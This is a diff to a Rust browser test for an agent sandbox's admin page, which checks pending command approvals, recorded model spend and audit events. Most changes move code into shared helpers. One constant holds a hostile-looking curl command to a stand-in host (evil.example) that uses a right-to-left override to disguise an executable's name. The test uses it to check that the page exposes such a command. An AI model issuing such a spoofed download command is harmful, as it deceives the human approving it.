@@ -4,18 +4,15 @@
 //! page showed and did is judged here, against the edge's own stores.
 //! Screenshots are kept in `<target>/artifacts/browser/admin-*.png`.
 
-use std::path::PathBuf;
-use std::process::Command;
 use std::time::Duration;
 
-use crate::admin::{ask_to_run, wait_for};
+use crate::admin::{ask_to_run, record_spend, wait_for};
 use crate::support::{TestEdge, bearer, get, owner, request};
 use chrono::Utc;
 use hardshell_audit::AuditEvent;
 use hardshell_audit::event::{EgressDecided, EgressDecision, ShellKind};
 use hardshell_auth::TokenScope;
 use hardshell_channels::{PairingRequest, Pairings, Platform, Sender};
-use hardshell_llm::{ModelRef, Usage};
 use hardshell_storage::ObjectKey;
 use hardshell_testkit::{browser, free_port};
 use serde_json::Value;
@@ -25,15 +22,6 @@ const DEADLINE: Duration = Duration::from_secs(180);
 /// A command an agent might ask to run to fool the owner: the override makes
 /// the end of it read backwards, so "exe.txt" would show as "txt.exe".
 const HOSTILE: &str = "curl -so report.\u{202e}txt.exe https://evil.example/x";
-
-/// `<target>/artifacts/browser/`: this test runs from `<target>/<profile>/deps/`.
-fn artifacts() -> PathBuf {
-    let exe = std::env::current_exe().unwrap();
-    let target = exe.ancestors().nth(3).unwrap();
-    let dir = target.join("artifacts").join("browser");
-    std::fs::create_dir_all(&dir).unwrap();
-    dir
-}
 
 /// The agent asks to run `command`: the approval it waits on.
 async fn pending(control: &std::path::Path, session: &str, command: &str) -> String {
@@ -70,28 +58,7 @@ async fn the_owner_runs_the_admin_page_in_a_real_browser() {
     let deny = pending(&control, &session, HOSTILE).await;
 
     // Spend the model gateway recorded: $3 and $15 per million tokens.
-    let mut prices = hardshell_llm::PriceList::new();
-    let model = ModelRef::parse("anthropic/claude-test").unwrap();
-    prices.set_model(
-        model.clone(),
-        hardshell_llm::Price::from_usd_per_mtok(3.0, 15.0).unwrap(),
-    );
-    let llm = edge
-        .store
-        .root()
-        .scope(&ObjectKey::parse("llm").unwrap())
-        .unwrap();
-    hardshell_llm::UsageLedger::new(llm, prices)
-        .record(
-            &model,
-            Usage {
-                input_tokens: 400_000,
-                output_tokens: 20_000,
-            },
-            Utc::now(),
-        )
-        .await
-        .unwrap();
+    record_spend(&edge, 400_000, 20_000).await;
 
     // A shell was refused a host whose name hides its end, and reached
     // another (what the brokers record in the edge's log).
@@ -136,7 +103,7 @@ async fn the_owner_runs_the_admin_page_in_a_real_browser() {
             ..owner()
         })
         .await;
-    let shots = artifacts();
+    let shots = browser::artifacts();
     for name in ["admin-desktop.png", "admin-phone.png", "admin-failure.png"] {
         let _ = std::fs::remove_file(shots.join(name));
     }
@@ -150,16 +117,13 @@ async fn the_owner_runs_the_admin_page_in_a_real_browser() {
         format!("--pairing-code={}", code.expose()),
         "--pairing-sender=telegram:123456789".to_owned(),
     ];
-    let browser::ScriptRun { ok, stdout, stderr } = tokio::task::spawn_blocking(move || {
-        let mut command = Command::new("node");
-        command.arg(browser::script("browser-admin.mjs")).args(args);
-        browser::run(command, DEADLINE)
+    let run = tokio::task::spawn_blocking(move || {
+        browser::run_script("browser-admin.mjs", &args, DEADLINE)
     })
     .await
     .unwrap();
-    assert!(ok, "the browser run failed:\n{stderr}\n{stdout}");
-    let run: Value = serde_json::from_str(stdout.lines().last().unwrap_or_default())
-        .unwrap_or_else(|e| panic!("{e}: {stdout}"));
+    let report = run.report();
+    let run: Value = serde_json::from_str(report).unwrap_or_else(|e| panic!("{e}: {}", run.stdout));
 
     // A visitor is sent to the login, which comes back here.
     assert_eq!(run["denied_without_session"], "/login?next=/admin");
